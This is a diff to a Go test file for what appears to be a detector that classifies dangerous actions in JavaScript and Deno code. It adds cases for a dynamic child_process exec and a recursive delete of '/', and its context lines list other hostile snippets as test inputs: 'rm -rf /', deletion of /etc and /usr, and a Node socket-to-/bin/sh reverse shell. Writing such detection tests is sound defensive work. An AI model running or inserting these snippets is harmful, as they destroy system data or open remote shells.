@@ -76,6 +76,8 @@ func TestJavaScript_ActsAreFound(t *testing.T) {
 		{`Deno.removeSync('/etc', {recursive: true})`, "tree /etc"},
 		{`await Deno.remove('x')`, "delete x"},
 		{`new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()`, "exec rm -rf /"},
+		{`import('child_process').then(c => c.exec('x'))`, "shell x"},
+		{`import('fs').then(({rmSync, x}) => rmSync('/', {recursive: true}))`, "tree /"},
 		{`Deno.run({cmd: ['rm', '-rf', '/']})`, "exec rm -rf /"},
 		{`const s=require('net').connect(1,'h'),c=require('child_process').spawn('/bin/sh');s.pipe(c.stdin)`, "exec /bin/sh; netshell ?"},
 		{`function clean(p) { require('fs').rmSync(p, {recursive: true}) } clean('/usr')`, "tree /usr"},
